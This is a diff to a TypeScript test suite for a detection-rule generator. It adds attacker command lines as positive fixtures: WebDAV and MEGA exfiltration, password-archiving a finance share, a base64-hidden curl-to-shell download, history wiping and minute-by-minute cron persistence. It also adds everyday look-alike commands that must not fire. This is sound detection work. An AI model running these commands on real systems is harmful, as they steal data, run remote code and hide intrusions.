@@ -73,6 +73,19 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['uid0-account', 'linux', 'useradd -o -u 0 -g 0 -M sysadm'],
   ['proc-hidepid', 'linux', 'mount -o remount,rw,hidepid=2 /proc'],
   ['container-escape', 'linux', 'nsenter -t 1 -m -u -i -n sh'],
+  [
+    'webdav-rundll32',
+    'windows',
+    'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie files-relay.example https://files-relay.example/share/',
+  ],
+  ['mega-client', 'windows', 'C:\\Users\\kim\\AppData\\Local\\MEGAcmd\\mega-put.bat C:\\Staging\\out.7z /exports'],
+  ['archive-password', 'windows', '7z.exe a -mx9 -pQ7x!z2 C:\\ProgramData\\f.7z \\\\FS02\\finance'],
+  ['terminal-killed', 'macos', 'killall Terminal'],
+  ['decode-pipe-shell', 'linux', 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2kuc2ggfCBzaAo= | base64 -d | bash'],
+  ['shell-history-cleared', 'linux', 'bash -c "unset HISTFILE; history -c"'],
+  ['shell-history-removed', 'linux', 'rm -f /root/.bash_history'],
+  ['cron-every-minute', 'linux', "(crontab -l; echo '* * * * * /dev/shm/.k/upd') | crontab -"],
+  ['fstab-hidepid', 'linux', "echo 'proc /proc proc defaults,hidepid=2 0 0' >> /etc/fstab"],
 ];
 
 describe('well-known techniques: rules keyed on the behaviour', () => {
@@ -178,6 +191,23 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
         { type: 'cmdline', value: 'C:\\Tools\\PsExec.exe -i -s C:\\Windows\\regedit.exe' },
       ]).fires,
     ).toBe(false);
+  });
+
+  it.each([
+    ['linux', 'curl -fsSL https://get.example.org/install.sh | sh'],
+    ['linux', 'base64 -d cert.b64 | sha256sum'],
+    ['linux', 'crontab -l'],
+    ['linux', "echo '*/30 * * * * /usr/local/bin/backup' | crontab -"],
+    ['linux', 'cat ~/.bash_history'],
+    ['windows', '7z.exe x -pSecret C:\\Users\\kim\\Downloads\\photos.7z'],
+    ['windows', 'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie intranet'],
+    ['macos', 'killall Finder'],
+  ] as Array<[TemplatePlatform, string]>)('writes no technique rule for the everyday %s command %s', (platform, commandLine) => {
+    const titles = generateBuiltinRules({ article, platform, cmdlines: [{ ...item, value: commandLine }] }).map(
+      (draft) => draft.rule.title,
+    );
+    const techniqueTitles = new Set(TECHNIQUES.map((technique) => technique.title));
+    expect(titles.filter((title) => techniqueTitles.has(title))).toEqual([]);
   });
 
   it('needs the program and the pattern on the platform the table names', () => {
